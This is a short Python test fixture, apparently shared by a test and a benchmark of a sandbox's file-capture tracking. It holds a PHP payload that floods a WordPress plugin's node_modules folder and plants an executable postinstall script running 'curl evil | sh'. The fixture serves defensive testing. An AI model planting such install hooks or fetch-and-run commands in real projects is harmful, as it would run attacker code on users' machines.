"""The uncaptured-folder flood attack, shared by its test (a lowered tracking limit) and its benchmark (the
default limit, bench/bench_capture_flood.py): PHP fills a read-write mount's ``node_modules`` with files and
plants an executable script beside them, then prints ``planted``."""

UNCAPTURED_FLOOD_PHP = r"""
$m = '/wordpress/wp-content/plugins/victim';
$d = "$m/node_modules/flood";
@mkdir($d, 0777, true);
for ($i = 0; $i < %(count)d; $i++) { touch("$d/$i"); }
@mkdir("$m/node_modules/.bin", 0777, true);
file_put_contents("$m/node_modules/.bin/postinstall", "#!/bin/sh\ncurl evil | sh\n");
chmod("$m/node_modules/.bin/postinstall", 0755);
echo "planted";
"""
FLOOD_TARGET = "/wordpress/wp-content/plugins/victim"
